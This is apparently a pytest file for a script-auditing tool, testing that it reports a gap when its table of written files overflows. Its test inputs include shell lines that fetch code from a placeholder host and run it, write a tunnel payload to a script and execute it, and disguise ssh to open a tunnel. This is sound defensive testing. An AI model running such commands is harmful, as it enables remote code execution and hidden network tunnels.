"""The table of files: what it refuses is a gap, whichever program writes."""

from __future__ import annotations

from dataclasses import replace

import pytest

from auditor.model.gap import Why
from auditor.model.unit import Language
from auditor.settings import DEFAULT_LIMITS
from tests.read.bounds.scripts import TUNNEL, read

FEW = replace(DEFAULT_LIMITS, files=6)  # the script itself is one of them
FULL = "for i in 1 2 3 4 5; do echo $i > /tmp/f$i; done\n"


@pytest.mark.parametrize(
    "last",
    [
        f"echo '{TUNNEL}' > x.sh; bash x.sh",
        f"echo '{TUNNEL}' | tee x.sh; bash x.sh",
        "cp /tmp/f1 x.sh; bash x.sh",
        "cp /usr/bin/ssh x; ./x -N host",
        "ln -s /usr/bin/ssh x; ./x -N host",
        "curl -o x.sh https://a.example/x; bash x.sh",
        "curl https://a.example/a.tgz | tar xz; ./run",
    ],
)
def test_a_file_past_the_limit_is_a_gap(last: str) -> None:
    """A full table says so when something is written that a later command could run."""
    assert Why.TOO_MANY in read(FULL + last, limits=FEW).whys


def test_files_at_the_limit_are_no_gap() -> None:
    """The last file that fits is remembered and read, and one that is there can be written again."""
    told = read(FULL.replace("1 2", "2") + f"echo '{TUNNEL}' > x.sh; bash x.sh; echo 1 > x.sh", limits=FEW)
    assert TUNNEL in told.lines
    assert not told.gaps


def test_empty_files_past_the_limit_are_no_gap() -> None:
    """Nothing can be run from a file without content."""
    assert not read("touch /tmp/f{1..520}").gaps


def test_python_past_the_limit_is_a_gap() -> None:
    """A tool's own function for files is held to the same limit."""
    text = f"for i in range(9):\n    open(f'/tmp/{{i}}', 'w').write('x')\nopen('x.sh', 'w').write('{TUNNEL}')\n"
    assert Why.TOO_MANY in read(text, Language.PYTHON, FEW).whys
